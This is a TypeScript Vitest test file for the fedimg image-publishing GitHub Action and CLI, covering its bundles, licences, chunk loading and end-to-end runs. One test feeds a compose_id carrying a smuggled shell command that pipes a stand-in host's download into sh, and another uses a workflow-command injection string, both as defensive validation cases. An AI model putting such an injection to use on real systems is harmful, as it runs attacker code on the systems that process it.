import { execFile } from 'node:child_process';
import { copyFile, mkdtemp, readdir, readFile, rm, stat } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { transform } from 'esbuild';
import { parse } from 'yaml';
import { DEFAULTS, INPUT_NAMES } from '../../src/settings/index.js';
import { generateCompose, statusMessage, type GeneratedCompose } from '../fixtures/compose.js';
import { startFileServer, type FileServer } from '../fixtures/file-server.js';
import { runAction, withoutNodeVersionWarning } from '../helpers/runner.js';

const ACTION = 'dist/action/index.js';
const CLI = 'dist/cli/index.js';

let dir: string;
let compose: GeneratedCompose;
let server: FileServer;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'fedimg-dist-'));
  compose = await generateCompose(dir, { rawSize: 700_000 });
  server = await startFileServer(dir);
});
afterAll(async () => {
  await server?.close();
  await rm(dir, { recursive: true, force: true });
});

const loopback = () => ({ 'allowed-hosts': server.host, 'allow-http': 'true' });

describe('action.yml', () => {
  it('declares node24 with main and post entries that exist', async () => {
    const action = parse(await readFile('action.yml', 'utf8'));
    expect(action.runs).toEqual({ using: 'node24', main: 'dist/action/index.js', post: 'dist/action/index.js' });
    await expect(readFile(action.runs.main)).resolves.toBeTruthy();
    expect(action.branding).toMatchObject({ icon: expect.any(String), color: expect.any(String) });
  });

  it('documents exactly the inputs the code reads, with the same defaults', async () => {
    const action = parse(await readFile('action.yml', 'utf8'));
    expect(Object.keys(action.inputs).sort()).toEqual([...INPUT_NAMES].sort());
    for (const [name, input] of Object.entries<{ description: string; default?: string }>(action.inputs)) {
      expect(input.description.length, name).toBeGreaterThan(20);
      if (name in DEFAULTS) expect(String(input.default), name).toBe(DEFAULTS[name as keyof typeof DEFAULTS]);
    }
    for (const output of Object.values<{ description: string }>(action.outputs)) expect(output.description.length).toBeGreaterThan(10);
  });
});

describe('the bundles’ licenses.txt', () => {
  it('carries the licence of every runtime dependency the bundles hold', async () => {
    const { dependencies } = JSON.parse(await readFile('package.json', 'utf8')) as { dependencies: Record<string, string> };
    // node-liblzma is loaded at run time from a checkout (src/image/decompress.ts); protocol-http
    // gives types only.
    const bundled = Object.keys(dependencies).filter((name) => !['node-liblzma', '@smithy/protocol-http'].includes(name));
    for (const bundle of ['dist/action', 'dist/cli']) {
      const licences = `\n${await readFile(join(bundle, 'licenses.txt'), 'utf8')}`;
      expect(bundled.filter((name) => !licences.includes(`\n${name}\n`)), bundle).toEqual([]);
    }
  });
});

describe('the bundles’ code', () => {
  // Every step starts by loading its bundle: the SDK's shapes of calls fedimg never makes (EC2 alone
  // has 2,176) would cost about 0.2 CPU s each time (scripts/build.mjs, sdk-shapes-shakeable).
  it('holds the AWS SDK shapes of the calls fedimg makes, and not those of the calls it never makes', async () => {
    for (const bundle of ['dist/action', 'dist/cli']) {
      const files = (await readdir(bundle)).filter((name) => name.endsWith('.js'));
      const code = (await Promise.all(files.map((name) => readFile(join(bundle, name), 'utf8')))).join('\n');
      expect(code, bundle).toContain('var RegisterImageRequest$ = ');
      expect(code, bundle).toContain('var PutSnapshotBlockRequest$ = ');
      expect(code, bundle).not.toContain('AcceptAddressTransferRequest$');
      expect(code.match(/^var \w+Request\$ = /gm)?.length ?? 0, bundle).toBeLessThan(200);
    }
  });
});

/** The code a bundle's file loads before it runs: itself and the chunks it imports statically. */
async function codeLoadedWith(file: string, seen = new Map<string, string>()): Promise<Map<string, string>> {
  if (seen.has(file)) return seen;
  const code = await readFile(file, 'utf8');
  seen.set(file, code);
  for (const [, chunk] of code.matchAll(/^import\s(?:[^;]*?\sfrom\s*)?"(\.\/[^"]+)";/gms))
    await codeLoadedWith(join(file, '..', chunk!), seen);
  return seen;
}

describe('the code every stage loads', () => {
  // Every step, of the action or the CLI, compiles what its stage chunk imports before it does
  // anything: about 0.07 CPU-s per MB of code on this machine's cores. undici comes through
  // @actions/core's OIDC client (scripts/build.mjs, without-oidc-client); zod's locales come with
  // `import { z } from 'zod'`, where `import * as z` lets esbuild keep only what fedimg uses.
  it.each(['dist/action/main.js', 'dist/cli/cli.js'])(
    '%s holds no HTTP client fedimg does not use, no archive reader, nor zod’s messages in 63 languages',
    async (start) => {
      const files = await codeLoadedWith(start);
      const code = [...files.values()].join('\n');
      // esbuild heads each module it bundles with a comment naming its file.
      const modules = code.match(/^\/\/ node_modules\/\S+$/gm) ?? [];
      const of = (pkg: string) => modules.filter((module) => module.startsWith(`// node_modules/${pkg}/`));
      expect(of('@actions/core')).not.toEqual([]);
      expect(of('undici')).toEqual([]);
      expect(of('@actions/http-client')).toEqual([]);
      // The cache entry reader (tar, zstd) loads where an entry is found, not at every start.
      expect(of('tar')).toEqual([]);
      expect(of('fzstd')).toEqual([]);
      expect(of('zod/v4/locales')).toEqual(['// node_modules/zod/v4/locales/en.js']);
      expect(code.length).toBeLessThan(2.5e6);
    },
  );
});

describe('the bundles’ files', () => {
  // Some chunks load only on a path no test takes (SSO credentials, say): each must still compile,
  // and load in a fresh process. The entries and the threads' modules run when loaded; the tests
  // below and the ingest tests run them.
  const runWhenLoaded = /^(index|main|cli|feeder-thread|snapshot-block-worker)\.js$/;
  it.each(['dist/action', 'dist/cli'])('%s: each compiles as a module, and each chunk loads', async (bundle) => {
    const names = (await readdir(bundle)).filter((file) => file.endsWith('.js'));
    for (const name of names) {
      const code = await readFile(join(bundle, name), 'utf8');
      await expect(transform(code, { format: 'esm', loader: 'js' }), `${bundle}/${name}`).resolves.toBeDefined();
    }
    const chunks = names.filter((name) => !runWhenLoaded.test(name)).map((name) => `./${bundle}/${name}`);
    const loading = `for (const chunk of ${JSON.stringify(chunks)}) await import(chunk);`;
    // Outside a job: @actions/github reads the runner's event file when its chunk loads.
    const { stdout, stderr } = await promisify(execFile)(
      process.execPath,
      ['--input-type=module', '-e', `${loading} console.log('loaded', ${chunks.length});`],
      { env: { PATH: process.env.PATH ?? '', HOME: process.env.HOME ?? '' } },
    );
    expect(withoutNodeVersionWarning(stderr)).toBe('');
    expect(stdout).toBe(`loaded ${chunks.length}\n`);
  });
});

describe('the bundled action, run as the runner runs it', () => {
  it('plans from a dispatch payload: matrix output, summary table, post step', async () => {
    const payload = JSON.stringify(statusMessage(compose, `${server.url}${compose.composeId}/compose`));
    const main = await runAction(ACTION, { inputs: { stage: 'plan', 'compose-payload': payload, ...loopback() } });
    expect(main.stderr).toBe('');
    expect(main.exitCode).toBe(0);
    const matrix = JSON.parse(main.outputs.images!);
    expect(matrix.include.map((image: { arch: string; ec2_arch: string }) => [image.arch, image.ec2_arch]).sort()).toEqual([
      ['aarch64', 'arm64'],
      ['x86_64', 'x86_64'],
    ]);
    expect(main.outputs).toMatchObject({ 'image-count': '2', 'compose-id': compose.composeId, status: 'FINISHED', skipped: 'false' });
    expect(main.summary).toContain('<table>');
    expect(main.summary).toContain(compose.images[0]!.file);
    expect(main.state.isPost).toBe('true');

    const post = await runAction(ACTION, { inputs: { stage: 'plan' }, state: main.state });
    expect(post.exitCode).toBe(0);
    expect(post.stdout).toContain('fedimg post');
    expect(post.outputs).toEqual({});
  });

  it('ends a post step with nothing to remove from index.js alone, which loads none of fedimg’s stages or the SDK', async () => {
    // Every fedimg step has a post step and most have nothing to do: the file each step starts from
    // holds only the entry, and the rest (about 0.7 CPU-seconds to load) is a chunk loaded for work.
    expect((await stat(ACTION)).size).toBeLessThan(64 * 1024);
    const alone = await mkdtemp(join(tmpdir(), 'fedimg-post-alone-'));
    try {
      for (const file of ['index.js', 'package.json']) await copyFile(join('dist/action', file), join(alone, file));
      const post = (stage: string, state: Record<string, string> = {}) =>
        runAction(join(alone, 'index.js'), { inputs: { stage }, state: { isPost: 'true', ...state } });
      for (const [stage, state, said] of [
        ['copy', {}, 'the copy stage leaves nothing unfinished'],
        [' publish ', {}, 'the publish stage leaves nothing unfinished'],
        ['::stop-commands::x', {}, 'the given stage leaves nothing unfinished'],
        ['import', {}, 'nothing was left unfinished'],
        ['boot-test', { pending: '[]' }, 'nothing was left unfinished'],
      ] as const) {
        const run = await post(stage, state);
        expect(run.exitCode, stage).toBe(0);
        expect(run.stderr, stage).toBe('');
        expect(run.stdout, stage).toBe(`fedimg post: ${said}.\n`);
      }
    } finally {
      await rm(alone, { recursive: true, force: true });
    }
  });

  it('ends a DOOMED compose successfully with a notice and an empty matrix', async () => {
    const payload = JSON.stringify(statusMessage(compose, `${server.url}${compose.composeId}/compose`, 'DOOMED'));
    const run = await runAction(ACTION, { inputs: { 'compose-payload': payload, ...loopback() } });
    expect(run.exitCode).toBe(0);
    expect(run.stdout).toMatch(/::notice title=fedimg plan::Nothing was done: compose .* is DOOMED/);
    expect(JSON.parse(run.outputs.images!)).toEqual({ include: [] });
    expect(run.outputs.skipped).toBe('true');
  });

  it('fails with an annotated ComposeError for a disallowed host, without outputs', async () => {
    const run = await runAction(ACTION, { inputs: { 'compose-location': 'https://evil.example.org/compose/x/compose' } });
    expect(run.exitCode).toBe(1);
    expect(run.stdout).toMatch(/::error title=fedimg compose::The compose location .* is not in allowed-hosts/);
    expect(run.outputs).toEqual({});
  });

  it('fails with an input error for an injection-laden payload', async () => {
    const payload = JSON.stringify({ ...statusMessage(compose, `${server.url}x/compose`), compose_id: 'x"; curl evil | sh; "' });
    const run = await runAction(ACTION, { inputs: { 'compose-payload': payload, ...loopback() } });
    expect(run.exitCode).toBe(1);
    expect(run.stdout).toMatch(/::error title=fedimg compose::The compose payload is invalid: compose_id/);
  });
});

describe('the bundled CLI', () => {
  const run = promisify(execFile);
  it('prints the plan as JSON on stdout and logs on stderr', async () => {
    const { stdout, stderr } = await run(process.execPath, [
      CLI,
      'plan',
      '--compose',
      `${server.url}${compose.composeId}/compose`,
      '--allowed-hosts',
      server.host,
      '--allow-http',
      '--json',
    ]);
    const result = JSON.parse(stdout);
    expect(result.plan.composeId).toBe(compose.composeId);
    expect(result.matrix.include).toHaveLength(2);
    expect(stderr).toContain('image(s) to publish');
  });

  it('exits 1 with the error on stderr for bad input, and 2 for bad usage', async () => {
    await expect(run(process.execPath, [CLI, 'plan', '--compose', 'https://evil.example.org/c/compose'])).rejects.toMatchObject({
      code: 1,
      stderr: expect.stringContaining('not in allowed-hosts'),
    });
    await expect(run(process.execPath, [CLI, 'plan', '--bogus'])).rejects.toMatchObject({ code: 2 });
  });
});
